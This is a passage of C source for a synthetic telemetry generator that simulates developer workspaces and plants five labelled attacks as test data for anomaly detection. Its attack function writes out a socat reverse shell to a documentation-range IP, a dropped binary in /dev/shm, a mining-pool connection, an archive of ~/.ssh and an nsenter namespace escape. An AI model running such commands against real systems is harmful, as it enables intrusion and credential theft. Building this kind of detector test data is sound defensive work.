			{"/usr/bin/gdb", "-q ./build/{proj}|-q --args ./build/{proj} --config dev.conf|-p {pidn}", 0, 0, 0, 0, 120000, "{run}", M_CPP, KA_PTRACE, 1},
			{"/usr/bin/strace", "-f -o /tmp/trace.txt ./build/{proj}|-c ./build/{proj}|-e trace=network ./build/{proj}|-f -e openat ./build/{proj}",
			 0, 0, 0, 0, 8000, "{run}", M_CPP, KA_PTRACE, 1},
			{"/usr/bin/ctest", "--test-dir build|--output-on-failure|-R {word}", 0, 0, 0, 0, 4000, "{pdir}/build/tests/test_{word}", M_CPP, 0, 1},
			{"/usr/bin/clang-format", "-i src/{word}.cpp|-i include/{word}.h", 0, 0, 0, 0, 200, 0, M_CPP, 0, 1},
			{"{pdir}/build/{proj}", "|--config dev.conf|--port {port}", 0, DST_SVC(S_REDIS), 1, 0, 30000, 0, M_CPP, 0, 1}};
		return tool(sh, t, &dbg[k == 3 ? below(2) : 2 + below(3)]);
	}
	}
}
static const struct tool *pick_tool(const struct tool *a, u32 n)
{
	u32 w[96];
	for (u32 i = 0; i < n; i++) w[i] = !a[i].imgs || (a[i].imgs >> cw->img & 1) ? a[i].weight : 0;
	return &a[wpick(w, n)];
}
#define TOOL(sh, t, arr) tool(sh, t, pick_tool(arr, NELEM(arr)))
static u64 a_kube(P *sh, u64 t)
{
	if (!cw->extk8s || pct(50)) return TOOL(sh, t, kube_tools);
	P *k = spawn(sh, t, "/usr/local/bin/kubectl", "%s", X("get pods -n {ns}|logs deploy/{proj} -n {ns} --tail=50|get nodes"));
	kfile(k, t + MSEC, X("{home}/.kube/config"), 4);
	P *a = spawn(k, t + 3 * MSEC, "/usr/lib/google-cloud-sdk/bin/gke-gcloud-auth-plugin", "");
	kfile(a, t + 5 * MSEC, X("{home}/.config/gcloud/application_default_credentials.json"), 4);
	u64 c = conn(a, t + 8 * MSEC, D_GCP, 0) + dms(150);
	fin(a, c, 0);
	c = conn(k, c + MSEC, D_EXT_K8S, 0) + dms(400);
	fin(k, c, 0);
	return c;
}
static u64 a_sudo(P *sh, u64 t)
{
	W *w = cw;
	u32 k = below(100);
	const char *pkg = PICK(apt_pkgs);
	P *s = spawn(sh, t, "/usr/bin/sudo", k < 65 ? "apt-get install -y %s" : k < 85 ? "apt-get update" : k < 93 ? "vim /etc/hosts" : "chown -R %s:%s %s",
		     k < 65 ? pkg : w->user, w->user, w->pr[w->cur].dir);
	u64 c = t + 3 * MSEC;
	if (w->sudopw && pct(60)) { /* asked for the password: PAM checks /etc/shadow */
		c += span(2, 8) * SEC;
		if (w->img == IMG_JAVA) kfile(s, c, "/etc/shadow", 4);
		else {
			P *u = spawn(s, c, "/usr/sbin/unix_chkpwd", "%s nonull", w->user);
			kfile(u, c + 300 * USEC, "/etc/shadow", 4), fin(u, c + 2 * MSEC, 0);
		}
		c += 5 * MSEC;
	}
	g_uid = 0;
	if (k >= 85) {
		c = leaf(s, c, 20000, k < 93 ? "/usr/bin/vim" : "/usr/bin/chown", "%s", s->args + (k < 93 ? 4 : 6));
	} else {
		g_uid = 0;
		P *a = spawn(s, c, "/usr/bin/apt-get", "%s", s->args + 8);
		u64 d = c + 30 * MSEC;
		for (u32 i = 0; i < 1 + below(3); i++) {
			g_uid = 42; /* _apt */
			P *h = spawn(a, d, "/usr/lib/apt/methods/http", "");
			d = conn(h, d + MSEC, D_UBUNTU, 80) + dms(1500);
			fin(h, d, 0);
		}
		g_uid = 42;
		P *gv = spawn(a, d, "/usr/lib/apt/methods/gpgv", "");
		d = leaf(gv, d + MSEC, 30, "/usr/bin/gpgv", "--homedir /tmp/apt-key-gpghome.%s --keyring /etc/apt/trusted.gpg.d/ubuntu-keyring-2018-archive.gpg "
			 "/tmp/apt.sig.%s /tmp/apt.data.%s", X("{h7}"), X("{h7}"), X("{h7}"));
		fin(gv, d + MSEC, 0);
		if (k < 65) {
			P *dp = spawn(a, d + 5 * MSEC, "/usr/bin/dpkg", "--status-fd 36 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/%s_1.%u-1_amd64.deb", pkg, below(9));
			d = leaf(dp, d + 8 * MSEC, 60, "/usr/bin/dpkg-deb", "--fsys-tarfile /var/cache/apt/archives/%s_1.%u-1_amd64.deb", pkg, below(9));
			if (pct(60)) d = leaf(dp, d + MSEC, 80, "/bin/sh", "/var/lib/dpkg/info/%s.postinst configure", pkg);
			fin(dp, d + MSEC, 0);
		}
		fin(a, d + 5 * MSEC, 0), c = d + 5 * MSEC;
	}
	fin(s, c + MSEC, 0);
	return c + MSEC;
}
static u64 a_tail(P *sh, u64 t)
{
	u32 w[3] = {0};
	for (u8 i = 0; i < cw->ntail; i++) w[i] = tail_tools[cw->tail[i]].weight;
	return cw->ntail ? tool(sh, t, &tail_tools[cw->tail[wpick(w, cw->ntail)]]) : t;
}
/* a notebook cell that does something visible */
static u64 a_kern(P *k, u64 t)
{
	W *w = cw;
	u32 r = below(100);
	if (r < 30) return app(k, t, dms(4000));
	if (r < 40) return conn(k, t, pct(50) ? D_HF : pct(50) ? D_GH_OBJ : D_DL, 0);
	if (r < 48 && w->aws) return kfile(k, t, X("{home}/.aws/credentials"), 4), conn(k, t + MSEC, D_AWS, 0);
	if (r < 50) return conn(k, t, DST_SVC(S_MLFLOW), 0);
	if (r < 68) { /* !shell escapes: sh -c, which execs the command */
		static const char *const cmd[] = {"pip install {pkg}", "ls -la data/", "head -5 data/{word}.csv", "nvidia-smi", "wc -l data/{word}.csv",
						  "git pull", "du -sh data", "unzip -o data/{word}.zip -d data/", "pip list", "ls"};
		static const char *const bin[] = {"/opt/conda/bin/pip", "/usr/bin/ls", "/usr/bin/head", "/usr/bin/nvidia-smi", "/usr/bin/wc",
						  "/usr/bin/git", "/usr/bin/du", "/usr/bin/unzip", "/opt/conda/bin/pip", "/usr/bin/ls"};
		u32 i = below(NELEM(cmd));
		char c[200];
		xp(cmd[i], c, sizeof c);
		P *s = spawn(k, t, "/bin/sh", "-c \"%s\"", c);
		g_noclone = 1;
		P *x = spawn(s, t + 900 * USEC, bin[i], "%s", strchr(c, ' ') ? strchr(c, ' ') + 1 : "");
		replaced(s);
		u64 e = t + dms(i == 0 ? 5000 : 30);
		if (i == 0) e = MAXU(e, conn(x, conn(x, t + 200 * MSEC, D_PYPI, 0), D_PYPI, 0));
		fin(x, e, 0);
		return e;
	}
	if (r < 90) { /* libraries that fork helpers */
		static const char *const h[][2] = {{"/bin/sh", "-c \"uname -p 2> /dev/null\""}, {"/sbin/ldconfig", "-p"}, {"/usr/bin/fc-list", ""},
						   {PY3, "-m joblib.externals.loky.backend.popen_loky_posix --process-name LokyProcess-1 --pipe 25"},
						   {PY3, "-c \"from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=57, pipe_handle=61)\" --multiprocessing-fork"},
						   {PY3, "-c \"from multiprocessing.resource_tracker import main;main(54)\""}, {"/usr/bin/lsb_release", "-a"}};
		u32 i = below(NELEM(h)), n = i == 3 || i == 4 ? 1 + below(4) : 1;
		u64 e = t;
		for (u32 j = 0; j < n; j++) e = MAXU(e, leaf(k, t + j * MSEC, i >= 3 ? 8000 : 5, h[i][0], "%s", h[i][1]));
		return e;
	}
	fin(k, t, 0), w->kern = NULL; /* kernel restart */
	return ensure_kernel(w, t + span(300, 2000) * MSEC)->start;
}
/* the editor reacts to a save: git status polling, language-server helpers */
static u64 a_ide(W *w, u64 t, int light)
{
	P *x = w->exth;
	if (!x) return t;
	g_cwd = w->pr[w->cur].dir;
	u64 c = leaf(x, t, 15, "/usr/bin/git", "-c core.quotepath=false status -z -uall");
	if (light) return c;
	static const char *const g[] = {"-c core.quotepath=false show --textconv :{file}", "-c core.quotepath=false rev-parse --symbolic-full-name HEAD",
					"-c core.quotepath=false for-each-ref --format=%(refname)%00%(upstream:short)%00%(objectname) refs/heads/{branch} refs/remotes/{branch}",
					"-c core.quotepath=false check-ignore -v -z --stdin", "-c core.quotepath=false diff --no-ext-diff --numstat", "log --format=%H -n 1"};
	if (pct(50)) g_cwd = w->pr[w->cur].dir, c = leaf(x, c + MSEC, 10, "/usr/bin/git", "%s", X(PICK(g)));
	if (w->lsp && w->img == IMG_GO && pct(30))
		c = leaf(w->lsp, c, 700, "/usr/local/go/bin/go", "list -e -json=Name,ImportPath,Error,Dir,GoFiles,CompiledGoFiles,Imports,Deps,Module "
			 "-compiled=true -test=true -export=false -deps=true -find=false -pgo=off -- %s/...", w->pr[w->cur].dir);
	if (w->lsp && w->img == IMG_RUST && pct(60))
		c = cargo(w->lsp, c, "check --workspace --message-format=json-diagnostic-rendered-ansi --all-targets --keep-going");
	return c;
}

/* ---- workspace profiles and day plans ------------------------------------------------------- */
static void add_sess(W *w, i64 s, i64 e)
{
	if (s < (i64)T0 + (i64)SEC) s = (i64)T0 + (i64)SEC;
	if (e > (i64)TEND - (i64)SEC) e = (i64)TEND - (i64)SEC;
	if (e - s < (i64)(3 * MIN) || w->nss == NELEM(w->ss)) return;
	if (w->nss && s < (i64)w->ss[w->nss - 1].e + (i64)(5 * MIN)) return;
	w->ss[w->nss].s = (u64)s, w->ss[w->nss++].e = (u64)e;
}
static void plan(W *w)
{
	static const u32 nsess[4][2] = {{0, 2}, {1, 2}, {2, 3}, {3, 3}}; /* base, random extra */
	static const u64 len_min[4] = {25, 60, 100, 130};
	i64 off = (i64)w->tz * (i64)MIN;
	i64 first = ((i64)T0 + off) / (i64)DAY, last = ((i64)TEND + off) / (i64)DAY;
	u32 start = 450 + below(150), len = 400 + below(240);
	for (i64 d = first - 1; d <= last; d++) {
		u32 wd = (u32)((d + 4) % 7);
		if ((wd == 0 || wd == 6) && !pct(12)) continue;
		i64 c = d * (i64)DAY - off + (i64)(start * MIN) + (i64)ex(20 * MIN) - (i64)(10 * MIN), end = c + (i64)(len * MIN);
		u32 n = nsess[w->cls][0] + below(nsess[w->cls][1] + 1);
		if (w->cls == 0 && pct(40)) n = 0;
		for (u32 i = 0; i < n && c < end; i++) {
			i64 l = (i64)(ex(len_min[w->cls] * MIN) + 5 * MIN);
			if (w->cls == 0) c += (i64)span(0, len * MIN);
			add_sess(w, c, c + l);
			c += l + (i64)(ex(40 * MIN) + 10 * MIN);
		}
		if (w->cls == 3 && pct(40)) {
			i64 s = d * (i64)DAY - off + (i64)((20 * 60 + below(150)) * MIN);
			add_sess(w, s, s + (i64)(span(30, 150) * MIN));
		}
	}
}
/* an attack needs its workspace in a session at time t */
static void cover(W *w, u64 t)
{
	u64 s = t - span(20, 50) * MIN, e = t + span(30, 80) * MIN;
	if (s < T0 + SEC) s = T0 + SEC;
	if (e > TEND - SEC) e = TEND - SEC;
	u8 n = 0;
	for (u8 i = 0; i < w->nss; i++)
		if (w->ss[i].e + 5 * MIN < s || w->ss[i].s > e + 5 * MIN) w->ss[n++] = w->ss[i];
		else s = w->ss[i].s < s ? w->ss[i].s : s, e = MAXU(e, w->ss[i].e);
	u8 i = n;
	while (i && w->ss[i - 1].s > s) w->ss[i] = w->ss[i - 1], i--;
	w->ss[i].s = s, w->ss[i].e = e, w->nss = n + 1;
}
static void init_ws(W *w, u32 i, u64 seed)
{
	static const u8 first12[12] = {IMG_PY, IMG_NODE, IMG_GO, IMG_PY, IMG_JAVA, IMG_NODE, IMG_RUST, IMG_PY, IMG_CPP, IMG_GO, IMG_NODE, IMG_PY};
	u32 sh[N_IMG], tzw[NELEM(tzs)];
	w->idx = i, w->node = i / 20, w->rng = seed * 0xD1B54A32D192ED03ull ^ (i + 1) * 0x9E3779B97F4A7C15ull, rs = &w->rng, cw = w;
	for (u32 k = 0; k < N_IMG; k++) sh[k] = image_share[k];
	for (u32 k = 0; k < NELEM(tzs); k++) tzw[k] = tzs[k].w;
	w->img = i < 12 ? first12[i] : wpick(sh, N_IMG);
	const char *fn = PICK(first_names), *ln = PICK(last_names);
	snprintf(w->user, sizeof w->user, "%s", fn);
	for (int pass = 0, used = 1; pass < 3 && used; pass++) {
		used = 0;
		for (u32 j = 0; j < i; j++) used |= !strcmp(wss[j].user, w->user);
		if (used) snprintf(w->user, sizeof w->user, pass ? "%s%s%u" : "%s%.1s", fn, ln, below(90));
	}
	snprintf(w->owner, sizeof w->owner, "%s.%s@example.com", fn, ln);
	if (i > 12 && pct(7)) { /* a second workspace of an existing owner */
		W *o = &wss[below(i)];
		memcpy(w->user, o->user, sizeof w->user), memcpy(w->owner, o->owner, sizeof w->owner);
	}
	w->uid = 1000;
	if (w->img == IMG_PY) strcpy(w->home, "/home/jovyan");
	else if (pct(4) && i > 12) strcpy(w->home, "/root"), w->uid = 0;
	else snprintf(w->home, sizeof w->home, "/home/%s", w->user);
	w->npr = (u8)(1 + below(3));
	for (u8 k = 0; k < w->npr; k++) {
		struct proj *p = &w->pr[k];
		snprintf(p->name, sizeof p->name, "%s-%s", PICK(proj_a), PICK(proj_b));
		if (pct(65)) snprintf(p->org, sizeof p->org, "%s", PICK(orgs));
		else snprintf(p->org, sizeof p->org, "%s-lab", w->user);
		snprintf(p->dir, sizeof p->dir, w->img == IMG_PY ? "%s/work/%s" : "%s/%s", w->home, p->name);
		p->gitlab = pct(12);
	}
	snprintf(w->wsid, sizeof w->wsid, "%s-%s", w->user, strchr(w->pr[0].name, '-') + 1);
	for (u32 j = 0; j < i; j++)
		if (!strcmp(wss[j].wsid, w->wsid)) snprintf(w->wsid + strlen(w->wsid), sizeof w->wsid - strlen(w->wsid), "-%u", i % 1000);
	char h6[8];
	hex(h6, 6);
	snprintf(w->ns, sizeof w->ns, "ws-%s", w->user), snprintf(w->wl, sizeof w->wl, "ws-%s-%s", w->user, h6);
	snprintf(w->pod, sizeof w->pod, "%s-0", w->wl);
	w->ip = ip4(10, 52, w->node, 10 + (i % 20) * 12 + below(12));
	w->tz = tzs[wpick(tzw, NELEM(tzs))].off;
	static const u32 clsw[4] = {14, 30, 38, 18}, rate[4] = {150, 500, 1000, 1900};
	w->cls = (u8)wpick(clsw, 4);
	w->rate = rate[w->cls] * (500 + exp_q[rnd() & 255] / 2) / 1000;
	w->entry = w->img == IMG_PY ? (pct(80) ? EN_JUP : pct(50) ? EN_SSH : EN_KEXEC) : pct(75) ? EN_IDE : pct(68) ? EN_SSH : EN_KEXEC;
	w->zsh = pct(25), w->prompt = w->zsh ? (pct(70) ? PR_OMZ : PR_STAR) : (u8)(pct(55) ? PR_NONE : pct(67) ? PR_PS1 : PR_STAR);
	w->tmux = pct(20), w->gitssh = pct(70), w->rsa = pct(25), w->cred = (u8)(pct(60) ? 0 : pct(62) ? 1 : 2);
	w->aws = pct(25), w->docker = pct(8), w->kube = pct(55), w->extk8s = w->kube && pct(25), w->autofetch = pct(15);
	w->sudopw = w->img == IMG_GO || w->img == IMG_CPP || w->img == IMG_JAVA, w->ephemeral = pct(40), w->old = pct(20), w->gitpanel = pct(50);
	static const u32 ntw[4] = {25, 35, 25, 15};
	w->ntail = (u8)wpick(ntw, 4);
	for (u8 k = 0, tries = 0; k < w->ntail && tries < 40; tries++) {
		u32 r = wpick(zipf_w, NELEM(tail_tools));
		int dup = !(tail_tools[r].imgs >> w->img & 1);
		for (u8 j = 0; j < k; j++) dup |= w->tail[j] == r;
		if (!dup) w->tail[k++] = (u8)r;
		if (tries == 39) w->ntail = k;
	}
	w->direnv = has_tail("direnv");
	if (i == 3 || i == 5 || i == 7) { /* the attacked workspaces: ordinary, active, bash */
		w->cls = 2, w->rate = 1000, w->zsh = 0, w->prompt = PR_PS1, w->entry = w->img == IMG_PY ? EN_JUP : EN_IDE;
		if (w->img == IMG_PY) w->gitssh = 1, w->rsa = 0;
	}
	for (u32 a = 0; a < N_ACT; a++) w->aw[a] = base_w[w->img][a] * (300 + exp_q[rnd() & 255]) / 1000;
	w->aw[A_KUBE] = w->kube ? 40 * (300 + exp_q[rnd() & 255]) / 1000 : 0;
	w->aw[A_AWS] = w->aws ? 20 * (300 + exp_q[rnd() & 255]) / 1000 : 0;
	w->aw[A_DOCKER] = w->docker ? 30 * (300 + exp_q[rnd() & 255]) / 1000 : 0;
	for (u8 k = 0; k < w->ntail; k++) w->aw[A_TAIL] += 5 + tail_tools[w->tail[k]].weight / 3;
	if (w->img == IMG_PY && w->entry != EN_JUP) w->aw[A_KERN] /= 4;
	plan(w);
	if (!w->ephemeral) pod_boot(w, T0 - ex(3 * DAY) - HOUR, 1);
}

/* ---- the event loop ------------------------------------------------------------------------------ */
static void wake(W *w, int kind, u64 t, int arg)
{
	E *e = evnew(E_WAKE, NULL, t, NULL);
	e->w = w, e->sub = (u8)kind, e->status = arg;
}
static void act(W *w, u64 t)
{
	u32 a = wpick(w->aw, N_ACT);
	u64 e;
	if (a == A_IDE) {
		a_ide(w, t, 0);
		return;
	}
	if (a == A_KERN) {
		P *k = w->kern ? w->kern : ensure_kernel(w, t);
		if (k) a_kern(k, k->start == t ? t + 3 * SEC : t);
		return;
	}
	P *sh = ensure_sh(w, t);
	t = MAXU(t, sh->start + 50 * MSEC);
	switch (a) {
	case A_CMD: e = a_cmd(sh, t); break;
	case A_EDIT: e = a_edit(sh, t); break;
	case A_GIT: e = a_git(sh, t); break;
	case A_GITNET: e = a_gitnet(sh, t); break;
	case A_BUILD: e = a_build(sh, t); break;
	case A_PKG: e = TOOL(sh, t, pkg_tools); break;
	case A_SUDO: e = a_sudo(sh, t); break;
	case A_CURL: case A_SSH: e = TOOL(sh, t, net_tools); break;
	case A_KUBE: e = a_kube(sh, t); break;
	case A_AWS: e = TOOL(sh, t, aws_tools); break;
	case A_DOCKER: e = TOOL(sh, t, docker_tools); break;
	default: e = a_tail(sh, t);
	}
	w->busy = MAXU(w->busy, e);
	w->busy = MAXU(w->busy, prompt(sh, e));
	if (pct(6)) snprintf(w->cwd, sizeof w->cwd, "%s", X(pct(50) ? "{pdir}" : pct(50) ? "{pdir}/{sub}" : "{home}"));
	if (pct(3)) w->cur = (u8)below(w->npr);
}
static struct { u64 line, t; char id[88]; W *w; } lab[6];
static void attack(W *w, int n, u64 t)
{
	P *p;
	switch (n) {
	case 1: /* the notebook kernel starts a reverse shell */
		p = w->kern ? w->kern : ensure_kernel(w, t);
		if (p->start == t) t += 25 * SEC;
		g_label = 1;
		fin(spawn(p, t, "/usr/bin/socat", "TCP:203.0.113.7:443 EXEC:/bin/bash"), t + span(120, 900) * SEC, 0);
		break;
	case 2: /* a dropped binary in /dev/shm, left running */
		p = ensure_sh(w, t), t = MAXU(t, p->start + SEC);
		g_label = 2, unref(spawn(p, t, "/dev/shm/.x/kworkerd", ""));
		break;
	case 3: /* the kernel talks to a mining pool */
		p = w->kern ? w->kern : ensure_kernel(w, t);
		g_label = 3, ksock(p, p->start == t ? t + 20 * SEC : t, ip4(198, 51, 100, 23), 3333);
		break;
	case 4: /* ~/.ssh archived to /tmp */
		p = ensure_sh(w, t), t = MAXU(t, p->start + SEC);
		p = spawn(p, t, "/usr/bin/tar", "czf /tmp/k.tgz %s/.ssh", w->home);
		leaf(p, t + MSEC, 20, "/usr/bin/gzip", "");
		g_label = 4, kfile(p, t + 3 * MSEC, X("{home}/.ssh/id_ed25519"), 4);
		fin(p, t + 60 * MSEC, 0);
		break;
	case 5: /* nsenter into the node's namespaces */
		p = ensure_sh(w, t), t = MAXU(t, p->start + SEC);
		p = spawn(p, t, "/usr/bin/nsenter", "-t 1 -m -u -i -n sh");
		g_label = 5, kcall(p, t + 400 * USEC, "__x64_sys_setns", 2, 3, 0x08000000);
		fin(p, t + span(20, 600) * SEC, 0);
		break;
	}
}
static void handle(E *e)
{
	W *w = e->w;
	u64 t = e->t;
	cw = w, rs = &w->rng;
	switch (e->sub) {
	case WK_SESS:
		sess_start(w, t, e->status);
		wake(w, WK_ACT, t + span(5, 60) * SEC, 0), wake(w, WK_BG, t + span(30, 300) * SEC, 0), wake(w, WK_END, w->ss[e->status].e, e->status);
		break;
	case WK_ACT:
		if (!w->in_sess || t >= w->send) break;
		act(w, t);
		if (w->burst) w->burst--, t += 2 * SEC + ex(11 * SEC * 1000 / w->rate);
		else w->burst = (u8)(2 + below(2 + 8 * w->rate / 1000)), t += 30 * SEC + ex(5 * MIN * 1000 / w->rate);
		wake(w, WK_ACT, t, 0);
		break;
	case WK_BG:
		if (!w->in_sess || t >= w->send) break;
		if (w->exth) {
			a_ide(w, t, 1);
			if (w->autofetch && t > w->last_fetch + 3 * MIN) g_cwd = w->pr[w->cur].dir, git_net(w->exth, t + SEC, "fetch"), w->last_fetch = t;
		} else if (w->img == IMG_PY && w->gitpanel)
			g_cwd = w->pr[w->cur].dir, leaf(w->jup, t, 20, "/usr/bin/git", "status --porcelain -b -u -z");
		wake(w, WK_BG, t + 20 * SEC + ex(5 * MIN), 0);
		break;
	case WK_END: {
		sess_end(w, t);
		int i = e->status;
		if (w->ephemeral && (i + 1 == w->nss || w->ss[i + 1].s > t + 100 * MIN)) wake(w, WK_STOP, t + span(20, 45) * MIN, 0);
		break;
	}
	case WK_STOP: pod_stop(w, t); break;
	case WK_ATK: attack(w, e->status, t); break;
	}
}

int main(int argc, char **argv)
{
	u64 seed = 1;
	const char *labels = NULL, *start = "2026-11-02T00:00:00Z";
	int attacks = 1;
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
		if (!strcmp(a, "--no-attacks")) { attacks = 0; continue; }
		if (!v || (strcmp(a, "--workspaces") && strcmp(a, "--hours") && strcmp(a, "--seed") && strcmp(a, "--start") && strcmp(a, "--labels"))) {
			fprintf(stderr, "usage: genfleet [--workspaces N] [--hours H] [--seed S] [--start RFC3339] [--labels FILE] [--no-attacks]\n");
			return 2;
		}
		i++;
		if (!strcmp(a, "--workspaces")) n_ws = (u32)strtoul(v, NULL, 10);
		else if (!strcmp(a, "--hours")) hours = strtoull(v, NULL, 10);
		else if (!strcmp(a, "--seed")) seed = strtoull(v, NULL, 10);
		else if (!strcmp(a, "--start")) start = v;
		else labels = v;
	}
	if (parse_rfc3339(start, &T0) || !n_ws || n_ws > 50000 || !hours || hours > 24 * 31) {
		fprintf(stderr, "genfleet: bad --start, --workspaces (1-50000) or --hours (1-744)\n");
		return 2;
	}
	if (attacks && n_ws < 8) {
		fprintf(stderr, "genfleet: the attacks need at least 8 workspaces (or --no-attacks)\n");
		return 2;
	}
	TEND = T0 + hours * HOUR;
	u64 grng = seed ^ 0x5DEECE66Dull;
	rs = &grng;
	n_nodes = (n_ws + 19) / 20;
	nodes = calloc(n_nodes, sizeof *nodes);
	char pool[8];
	hex(pool, 6);
	for (u32 i = 0; i < n_nodes; i++) {
		struct node *n = &nodes[i];
		char z[8];
		alnum(z, 4);
		for (char *c = z; *c; c++) if (*c >= 'A' && *c <= 'Z') *c += 32;
		snprintf(n->name, sizeof n->name, "gke-dev-devpool-%s-%s", pool, z);
		n->boot = T0 - span(2 * DAY, 20 * DAY), n->pid = 2000 + below(400000);
		n->systemd = calloc(1, sizeof(P) + 32);
		n->systemd->refs = 1, n->systemd->pid = 1, n->systemd->start = n->boot + SEC;
		char raw[80];
		snprintf(raw, sizeof raw, "%s:%llu:1", n->name, (unsigned long long)SEC);
		b64(raw, n->systemd->id);
	}
	wss = calloc(n_ws, sizeof *wss);
	for (u32 i = 0; i < n_ws; i++) init_ws(&wss[i], i, seed);
	static const u32 atk_ws[6] = {0, 3, 3, 7, 7, 5};
	static const u32 atk_at[6] = {0, 15, 25, 45, 55, 75}; /* percent of the window after the cutoff */
	u64 cut = hours >= 24 ? T0 + 14 * HOUR : T0 + hours * HOUR * 6 / 10, tatk[6] = {0};
	if (attacks)
		for (int n = 1; n <= 5; n++) {
			W *w = &wss[atk_ws[n]];
			rs = &grng;
			tatk[n] = cut + (TEND - 10 * MIN - cut) * (atk_at[n] - 3 + below(6)) / 100 + rnd() % SEC;
			cover(w, tatk[n]);
		}
	for (u32 i = 0; i < n_ws; i++)
		for (u8 s = 0; s < wss[i].nss; s++) wake(&wss[i], WK_SESS, wss[i].ss[s].s, s);
	if (attacks)
		for (int n = 1; n <= 5; n++) wake(&wss[atk_ws[n]], WK_ATK, tatk[n], n);
	while (hn) {
		E *e = hpop();
		now = e->t;
		if (e->t < TEND) {
			if (e->kind == E_WAKE) handle(e);
			else {
				if (e->label) lab[e->label].line = lineno + 1, lab[e->label].t = e->t, lab[e->label].w = e->p->w, strcpy(lab[e->label].id, e->p->id);
				render(e);
			}
		}
		unref(e->p);
		free(e);
	}
	oflush();
	if (clamped) fprintf(stderr, "genfleet: %llu events clamped to the current time\n", (unsigned long long)clamped);
	if (labels) {
		static const char *const spec[] = {"", "rare_parent_child", "rare_writable_binary", "rare_destination", "rare_credential_read", "rare_kernel_action"};
		static const char *const what[] = {"", "notebook kernel (python3 -m ipykernel_launcher) spawns socat TCP:203.0.113.7:443 EXEC:/bin/bash",
						   "bash executes /dev/shm/.x/kworkerd, a binary dropped in a writable hidden directory",
						   "notebook kernel python3 connects to 198.51.100.23:3333 (mining pool port)",
						   "tar reads ~/.ssh/id_ed25519 while archiving ~/.ssh to /tmp/k.tgz",
						   "nsenter -t 1 -m -u -i -n calls setns into the node's namespaces from a code-server workspace"};
		FILE *f = fopen(labels, "w");
		if (!f) { perror(labels); return 1; }
		for (int n = 1; n <= 5 && attacks; n++) {
			char ts[40];
			if (!lab[n].line) { fprintf(stderr, "genfleet: attack %d was not emitted\n", n); return 1; }
			fmt_ts(lab[n].t, ts, 1);
			fprintf(f, "{\"n\":%d,\"spec\":\"%s\",\"workspace\":\"%s\",\"exec_id\":\"%s\",\"time\":\"%s\",\"line\":%llu,\"what\":\"%s\"}\n", n, spec[n],
				lab[n].w->wsid, lab[n].id, ts, (unsigned long long)lab[n].line, what[n]);
		}
		if (fclose(f)) { perror(labels); return 1; }
	}
	return ferror(stdout) ? 1 : 0;
}
